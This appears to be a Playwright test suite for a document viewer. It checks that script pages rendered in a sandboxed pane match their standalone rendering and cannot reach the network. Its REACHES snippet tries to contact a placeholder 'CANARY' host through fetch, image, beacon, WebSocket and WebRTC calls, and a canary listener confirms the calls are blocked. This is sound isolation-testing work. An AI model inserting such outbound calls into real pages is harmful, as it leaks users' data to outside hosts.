"""Pages that need their scripts look and work in the pane as they do from their folder, and nothing of them leaves."""

import functools
import http.server
import io
import threading
from collections.abc import Iterator
from typing import NamedTuple

import pytest
from PIL import Image
from playwright.sync_api import Browser, Frame, Page, expect

from tests.browser.hostile.hostile_pages import Canary
from tests.browser.outputs.fidelity import Likeness, likeness
from tests.browser.outputs.script_pages import PAGE, ScriptPage, script_pages
from tests.browser.servers.panes_files import Shelf
from tests.browser.servers.panes_page import Served, running, shown
from tests.worlds.files.outputs import World

PAGES = script_pages()
QUICK = 6
_CORNER = 60
"""Pixels at the lower edge of a pane, where it says to whom keys go."""
REACHES = """<script>
fetch("http://CANARY/fetch", { mode: "no-cors" }).catch(() => 0); new Image().src = "http://CANARY/image";
navigator.sendBeacon("http://CANARY/beacon", "x");
try { new WebSocket("ws://CANARY/socket"); } catch {}
try { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY" }] }); peer.createDataChannel("d");
peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch {}
</script>"""
"""What a page in the pane tries beside its own work."""
TOP = "stage => stage.getBoundingClientRect().top"


class Silent(http.server.SimpleHTTPRequestHandler):
    """Serves a folder and says nothing of it."""

    def log_message(self, *_: object) -> None:
        pass


class Both(NamedTuple):
    """The app with the pages in panes, and the address of their folders served as they are."""

    served: Served
    folder: str
    canary: Canary


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Both]:
    folder = tmp_path_factory.mktemp("scripts")
    shelf, world = Shelf(folder), World(folder / "blobs")
    with Canary() as canary:
        files: dict[str, bytes | str] = {}
        for number, page in enumerate(PAGES):
            for path, text in page.files.items():
                file = folder / "plain" / str(number) / path
                file.parent.mkdir(parents=True, exist_ok=True)
                file.write_text(text, "utf-8")
                files[f"{number}/{path}"] = text + (canary.page(REACHES) if path == PAGE else "")
        for copy in world.single(world.uploads(files)).copies:
            group, _, name = copy.name.partition("/")
            shelf.add(group, "A", name, copy.family.value, world.blobs.get(copy.blob), copy.media_type)
        shelf.close()
        handler = functools.partial(Silent, directory=folder / "plain")
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        with running(folder, shelf.sets) as served:
            yield Both(served, f"http://127.0.0.1:{server.server_port}/", canary)
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def windows(browser: Browser) -> tuple[Page, Page]:
    """One window for the app, and one for the pages by themselves."""
    return browser.new_page(viewport={"width": 1500, "height": 900}), browser.new_page()


def in_the_pane(window: Page) -> Frame:
    """The page's own document in the pane of A."""
    shown(window, "a")
    for _ in range(100):
        found = [frame for frame in window.frames if "/live/" in frame.url and frame.url.endswith("?page")]
        if found:
            found[0].wait_for_load_state()
            return found[0]
        window.wait_for_timeout(50)
    raise AssertionError([frame.url for frame in window.frames])


def act(page: Page, frame: Page | Frame, found: ScriptPage) -> None:
    """Do to the page what a person does, and wait for what it says then."""
    for kind, selector, value in found.steps:
        place = frame.locator(selector).first
        if kind == "type":
            place.click(click_count=3)
            page.keyboard.type(value)
        elif kind == "press":
            place.click()
            page.keyboard.press(value)
        elif kind == "hover":
            place.hover()
        elif kind == "scroll":
            place.scroll_into_view_if_needed()
        elif kind == "drag":
            box = place.bounding_box()
            assert box is not None
            page.mouse.move(box["x"] + 3, box["y"] + 5)
            page.mouse.down()
            page.mouse.move(box["x"] + float(value), box["y"] + 5, steps=4)
            page.mouse.up()
        else:
            place.click()
    expect(frame.locator("body")).to_contain_text(found.says, use_inner_text=True, timeout=10_000)


def picture(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data)).convert("RGB")


@pytest.mark.parametrize(
    "number",
    [
        pytest.param(n, id=page.name, marks=() if n < QUICK else pytest.mark.slow)
        for n, page in enumerate(PAGES)
    ],
)
def test_a_page_works_and_looks_in_the_pane_as_from_its_folder(
    both: Both, windows: tuple[Page, Page], number: int
) -> None:
    found = PAGES[number]
    app, alone = windows
    both.canary.heard.clear()

    app.goto(f"{both.served.url}?set={number}")
    tab = app.get_by_role("tab").filter(has_text=PAGE)
    if tab.count():
        tab.first.click()
    frame = in_the_pane(app)
    stage = app.locator(".pane[data-side=a] .stage")
    top = stage.evaluate(TOP)
    # A pointer of DevTools is seen by the innermost process only; a person's enters the app's frame as well.
    shown(app, "a").dispatch_event("pointerenter")
    act(app, frame, found)
    expect(app.get_by_text("Not loaded:").first).to_be_visible()
    # The line may come late, and moves nothing under the pointer.
    assert stage.evaluate(TOP) == top
    width, height = frame.evaluate("[innerWidth, innerHeight]")
    alone.set_viewport_size({"width": width, "height": height})
    alone.goto(f"{both.folder}{number}/{PAGE}")
    act(alone, alone, found)
    here = shown(app, "a").bounding_box()
    assert here is not None
    # A pane may begin between two rows of pixels.
    left, top = round(here["x"]), round(here["y"])
    for window, x, y in ((app, left, top), (alone, 0, 0)):
        window.mouse.move(x + width - 20, y + height - 100)
    for document in (frame, alone):
        document.evaluate("document.activeElement?.blur()")

    assert frame.inner_text("body").strip() == alone.inner_text("body").strip()

    def compared() -> Likeness:
        own = picture(app.screenshot()).crop((left, top, left + width, top + height - _CORNER))
        other = picture(alone.screenshot()).crop((0, 0, width, height - _CORNER))
        return likeness(own, other)

    alike = compared()
    for _ in range(4):  # a canvas may be painted a moment after the words
        if alike.is_enough:
            break
        app.wait_for_timeout(300)
        alike = compared()
    assert alike.is_enough, alike
    assert both.canary.heard == []


def test_the_listener_hears_such_a_page_where_nothing_holds_it_back(both: Both, browser: Browser) -> None:
    both.canary.heard.clear()
    page = browser.new_page()
    page.goto(f"{both.folder}0/{PAGE}")

    page.set_content(both.canary.page(REACHES))
    page.wait_for_timeout(1_500)

    assert any("fetch" in line for line in both.canary.heard)
    assert any("packet" in line for line in both.canary.heard)


def test_a_reviewer_switches_the_scripts_of_one_file_off(both: Both, windows: tuple[Page, Page]) -> None:
    app, _ = windows
    app.goto(f"{both.served.url}?set=0")
    in_the_pane(app)
    pane = app.locator(".pane[data-side=a]")
    scripts = pane.get_by_role("button", name="Run this page's scripts")

    pane.get_by_role("button", name="More of").click()
    scripts.click()

    expect(scripts).to_have_attribute("aria-pressed", "false")
